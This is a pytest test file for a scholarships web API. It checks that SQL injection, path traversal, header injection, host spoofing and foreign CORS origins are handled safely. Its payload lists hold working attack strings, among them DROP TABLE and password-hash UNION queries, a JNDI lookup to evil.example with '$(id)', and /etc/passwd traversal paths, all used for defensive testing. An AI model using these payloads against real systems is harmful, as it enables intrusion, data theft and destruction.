"""What people type is data: to the database, to the answer's header, and to the file system."""

from __future__ import annotations

import json
import time
import urllib.parse

import pytest

from tests.examples.scholarships.identities import bearer
from tests.examples.security.attack import ORIGIN, Target, rows
from tests.examples.security.test_tokens import DRAFT

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE scholarships; --",
    "' UNION SELECT username, password_hash FROM users --",
    "\\'; DELETE FROM users; --",
    "1) OR (1=1",
    "x' || (SELECT password_hash FROM users LIMIT 1) || 'x",
    "'; SELECT pg_sleep(100); --",
    "climate' AND randomblob(1000000000) --",
    'NEAR("a" "b", 5) OR title:*',
    "a & b | !c <-> d:*",
    "%' ESCAPE '\\",
    "${jndi:ldap://evil.example/a}{{7*7}}$(id)`id`",
    "%s%n%(x)s{0}{x.__class__}",
]
TEXTS = ("query", "field_of_study", "country")


@pytest.mark.parametrize("text", SQL)
def test_sql_is_text(either: Target, text: str) -> None:
    """SQL in a parameter finds nothing, says nothing of the database, takes no time, and changes nothing."""
    before = rows(either.ask("GET", "/scholarships?limit=100&max_amount=2147483647&sort=title"))
    started = time.monotonic()
    for name in TEXTS:
        quoted = urllib.parse.urlencode({name: text})
        for answer in (either.ask("GET", f"/scholarships?{quoted}"), either.ask("POST", "/search", {name: text})):
            # Words of it may be in a text; that it is a condition that holds for every row would find all of them.
            assert len(rows(answer)) < len(before), name
    for name in ("sort", "limit", "offset", "min_amount", "deadline_after", "level", "min_gpa"):
        answer = either.ask("GET", "/scholarships?" + urllib.parse.urlencode({name: text}))
        assert (answer.status, answer.json()["error"]) == (422, "validation_error"), name
        assert text not in answer.body.decode()
    path = urllib.parse.quote(text, safe="")
    # A slash in it makes it another address, of which there is none.
    assert either.ask("GET", f"/scholarships/{path}").status in {404, 422}
    assert either.ask("DELETE", f"/scholarships/1{path}", user="admin").status in {404, 405, 422}
    assert either.sign_in(text, text).status == 401
    assert either.sign_in("admin' --", "x").status == 401
    assert time.monotonic() - started < 60
    assert rows(either.ask("GET", "/scholarships?limit=100&max_amount=2147483647&sort=title")) == before


@pytest.mark.parametrize("text", SQL)
def test_sql_is_stored_as_it_is(either: Target, text: str) -> None:
    """What is written comes back letter for letter."""
    made = either.ask("POST", "/scholarships", {**DRAFT, "title": text, "description": text}, user="partner").json()
    changed = either.ask("PATCH", f"/scholarships/{made['id']}", {"provider": text}, user="partner").json()
    read = either.ask("GET", f"/scholarships/{made['id']}").json()
    assert [read[name] for name in ("title", "description", "provider")] == [text] * 3
    assert read == changed
    assert either.ask("DELETE", f"/scholarships/{made['id']}", user="partner").status == 204


@pytest.mark.parametrize(
    "path",
    [
        "/../../../../etc/passwd",
        "/scholarships/../../etc/passwd",
        "/scholarships/..%2f..%2fetc%2fpasswd",
        "/docs/../../../etc/passwd",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "//etc/passwd",
        "/scholarships/1%00.json",
        "/scholarships/%c0%ae%c0%ae/",
        "/..\\..\\windows\\win.ini",
        "/scholarships/1;/../../interactions",
    ],
)
def test_no_path_leads_to_a_file(service: Target, path: str) -> None:
    """Nothing but the routes is there: 404, a redirect to another route, or 422 where a number is expected."""
    answer = service.raw(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode("latin-1"))
    assert answer.split(b" ", 2)[1] in {b"307", b"400", b"404", b"422"}
    assert b"root:" not in answer


@pytest.mark.parametrize(
    "evil", ["x\r\nSet-Cookie: a=b", "x\nSet-Cookie: a=b", "x\rSet-Cookie: a=b", "é" * 10, "a" * 129, " "]
)
def test_ids_carry_no_header(service: Target, evil: str) -> None:
    """An id with a line's end in it, or anything else that is no id, is replaced or refused, and never sent back."""
    for name in ("X-Request-ID", "traceparent"):
        head = f"GET /scholarships/99 HTTP/1.1\r\nHost: x\r\n{name}: ".encode()
        answer = service.raw(head + evil.encode() + b"\r\nConnection: close\r\n\r\n").lower()
        assert answer.split(b" ", 2)[1] in {b"400", b"404"}
        assert b"\nset-cookie" not in answer
        assert b"a" * 129 not in answer
        if answer.split(b" ", 2)[1] == b"404":
            head, _, error = answer.partition(b"\r\n\r\n")
            ids = [line for line in head.split(b"\r\n") if line.startswith(b"x-request-id: ")]
            assert ids == [b"x-request-id: " + json.loads(error)["request_id"].encode()]


@pytest.mark.parametrize(
    "evil", ["%0d%0aSet-Cookie:%20a=b", "1%0d%0aSet-Cookie:%20a=b", "%E5%98%8A%E5%98%8DSet-Cookie:a=b"]
)
def test_paths_carry_no_header(service: Target, evil: str) -> None:
    """Neither a path nor a query makes a header, in redirects neither."""
    for path in (f"/scholarships/{evil}", f"/scholarships/{evil}/", f"/scholarships/?x={evil}", f"/{evil}/"):
        answer = service.raw(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()).lower()
        assert b"\nset-cookie" not in answer
        assert answer.split(b" ", 2)[1] in {b"307", b"404", b"422"}


def test_no_host_is_believed(service: Target) -> None:
    """What is made has a place on this host, whatever the request says about hosts."""
    headers = {"Host": "evil.example", "X-Forwarded-Host": "evil.example", "Forwarded": "host=evil.example"}
    answer = service.ask("POST", "/scholarships", DRAFT, {**headers, **bearer("partner")})
    assert answer.headers["location"] == f"/scholarships/{answer.json()['id']}"


@pytest.mark.parametrize(
    "origin",
    [
        "https://evil.example",
        "null",
        f"{ORIGIN}.evil.example",
        f"{ORIGIN}:8443",
        "https://example.org",
        "http://www.example.org",
        f"{ORIGIN}\tx",
        f"{ORIGIN} https://evil.example",
        "https://WWW.example.org.evil.example",
    ],
)
def test_a_foreign_origin_reads_nothing(service: Target, origin: str) -> None:
    """Pages of other origins are told nothing by the browser, and may not even ask to write."""
    answer = service.ask("GET", "/scholarships/1", headers={"Origin": origin})
    assert "access-control-allow-origin" not in answer.headers
    wanted = {
        "Origin": origin,
        "Access-Control-Request-Method": "DELETE",
        "Access-Control-Request-Headers": "authorization",
    }
    answer = service.ask("OPTIONS", "/scholarships/1", headers=wanted)
    assert (answer.status, answer.headers.get("access-control-allow-origin")) == (400, None)


def test_the_origin_that_is_named_may_ask(service: Target) -> None:
    """The configured origin is named itself, never `*`, and no cookie is allowed for."""
    answer = service.ask("GET", "/scholarships/1", headers={"Origin": ORIGIN})
    assert answer.headers["access-control-allow-origin"] == ORIGIN
    assert "access-control-allow-credentials" not in answer.headers
    assert "Origin" in answer.headers["vary"]
